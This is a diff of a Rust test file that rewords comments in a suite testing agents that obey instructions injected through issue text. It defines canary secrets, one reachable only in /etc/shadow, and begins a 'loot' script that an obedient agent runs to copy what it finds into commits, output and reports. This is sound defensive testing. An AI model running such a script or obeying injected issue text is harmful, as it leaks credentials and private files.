@@ -1,4 +1,4 @@
-//! Agents that do whatever the text of an issue tells them: what they can reach then, and what of it gets out.
+//! Agents that obey injected instructions: the secrets and files that they can reach, and where these can leak.
 
 use fake_forge::{Dialect, OpKind};
 use ralph_bot::domain::loops::LoopState;
@@ -14,13 +14,13 @@ on_one_forge!(
     hostile_title_becomes_no_option_and_no_branch,
 );
 
-/// In a file beside the service's own, where an agent has no business.
+/// Canary in a file beside the service's data, which agents must not read.
 const CANARY: &str = "canary-4f1d9b7e-that-nobody-is-to-see";
-/// What only the machine's own file of accounts holds.
+/// Text that only `/etc/shadow` contains.
 const HOST: &str = "host-canary-77c0";
 
-/// What an agent that obeys runs, in its tree. What it finds goes into a file that is committed, onto its output and
-/// into its report, which are the ways out. `FOLDER` is the service's, `FORGE` the forge's address.
+/// Script of an obedient agent. It writes everything that it finds to a committed file, its output and its report, which
+/// are the possible leaks. `FOLDER` is the service's folder, `FORGE` the forge's address.
 const ORDERS: &str = r#"
 loot() {
 echo LOOT-BEGINS
